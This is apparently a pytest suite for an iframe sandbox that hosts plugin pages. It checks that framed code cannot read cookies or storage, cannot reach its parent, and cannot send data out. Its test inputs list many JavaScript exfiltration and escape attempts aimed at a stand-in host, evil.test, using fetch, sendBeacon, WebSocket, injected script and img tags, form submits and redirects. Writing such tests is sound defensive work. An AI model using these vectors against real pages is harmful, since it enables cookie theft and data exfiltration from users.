"""What a page of a plugin can reach from inside its frame: the one it is told by, and nothing else."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from widgets.framed import ORIGIN, Framed

OWN = [f"{ORIGIN}/", f"{ORIGIN}/host.js", f"{ORIGIN}/page"]
PutUp = Callable[[str], Framed]


def trying(code: str) -> str:
    """A page that tells `result` of what it tried, then answers as a good one does."""
    return f"""<script>
      dinrail.onstate = () => {{}};
      (async () => {{
        let result;
        try {{ result = String(await (async () => {{ {code} }})()); }} catch (error) {{ result = error.name; }}
        top.postMessage({{ tried: result }}, '*');
      }})();
    </script>"""


@pytest.mark.parametrize(
    ("code", "result"),
    [
        ("return document.cookie", "SecurityError"),
        ("document.cookie = 'a=1'; return 'set'", "SecurityError"),
        ("return localStorage.length", "SecurityError"),
        ("return origin", "null"),
        ("return top.document.title", "SecurityError"),
        ("return parent.document.title", "SecurityError"),
        ("return (await fetch('http://evil.test/x')).status", "TypeError"),
        ("return (await fetch('/api/instances')).status", "TypeError"),
        ("top.location = 'http://evil.test/x'; return 'gone'", "SecurityError"),
        ("parent.location = 'http://evil.test/x'; return 'gone'", "SecurityError"),
        ("return open('http://evil.test/x')", "null"),
    ],
)
def test_it_reaches_nothing(put_up: PutUp, code: str, result: str) -> None:
    shown = put_up(trying(code))

    assert shown.hears("'tried' in message")["tried"] == result
    assert sorted(shown.requests) == OWN
    assert shown.page.url == f"{ORIGIN}/"


@pytest.mark.parametrize(
    "code",
    [
        "location = 'http://evil.test/x'",
        "location = '/api/instances'",
        "document.body.innerHTML = '<img src=http://evil.test/x>'",
        "document.head.append(Object.assign(document.createElement('script'), {src: 'http://evil.test/x'}))",
        "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'http://evil.test/x'}))",
        "document.body.innerHTML = '<iframe src=http://evil.test/x></iframe>'",
        "document.body.innerHTML = '<form action=http://evil.test/x></form>'; document.forms[0].submit()",
        "navigator.sendBeacon('http://evil.test/x', 'a')",
        "new WebSocket('ws://evil.test/x')",
        "new EventSource('http://evil.test/x')",
        "new Worker('http://evil.test/x')",
        "document.head.innerHTML = '<meta http-equiv=refresh content=\"0;url=http://evil.test/x\">'",
    ],
)
def test_nothing_leaves_it(put_up: PutUp, code: str) -> None:
    shown = put_up(f"<body><script>try {{ {code} }} catch {{}}</script>")
    shown.page.wait_for_timeout(500)  # what was tried comes after the page is there

    assert sorted(shown.requests) == OWN
    assert shown.page.url == f"{ORIGIN}/"


def test_a_page_that_hangs_leaves_its_host_alone(put_up: PutUp) -> None:
    shown = put_up("<script>addEventListener('load', () => setTimeout(() => { for (;;); }, 200))</script>")

    shown.hears("message.ready")
    assert shown.page.evaluate("1 + 1") == 2


def test_what_is_no_message_of_its_host_is_not_heard(put_up: PutUp) -> None:
    shown = put_up(
        "<p id='told'></p><script>dinrail.onstate = ({ language }) => { told.textContent = language; }</script>"
    )
    shown.hears("message.ready")

    shown.inside.evaluate("postMessage({ dinrail: 1, number: 1, state: { language: 'forged' } }, '*')")
    shown.tell(2, language="de")

    assert shown.inside.text_content("#told") == "de"
    assert shown.page.evaluate("heard.some(({ seen }) => seen === 1)") is False


def test_a_page_that_throws_has_not_taken_it_over(put_up: PutUp) -> None:
    shown = put_up(
        "<script>dinrail.onstate = ({ values }) => { if (!values.level) throw new Error('no level'); }</script>"
    )
    shown.hears("message.ready")

    message = {"dinrail": 1, "number": 1, "state": {"values": {}}}
    shown.page.evaluate("(message) => frames[0][0].postMessage(message, '*')", message)
    shown.tell(2, values={"level": {"value": 1}})

    assert shown.page.evaluate("heard.some(({ seen }) => seen === 1)") is False


def test_a_wish_is_answered_to_the_one_who_asked(put_up: PutUp) -> None:
    shown = put_up("<script>dinrail.onstate = () => {}</script>")
    shown.hears("message.ready")

    shown.inside.evaluate("globalThis.ends = Promise.all([1, 2].map((value) => dinrail.write('pump', value))), null")
    asked = [shown.hears(f"message.value === {value}") for value in (1, 2)]
    for wish, done in zip(asked, (False, True), strict=True):
        shown.page.evaluate("(m) => frames[0][0].postMessage(m, '*')", {"dinrail": 1, "id": wish["id"], "done": done})

    assert asked[0]["write"] == "pump"
    assert shown.inside.evaluate("ends") == [False, True]
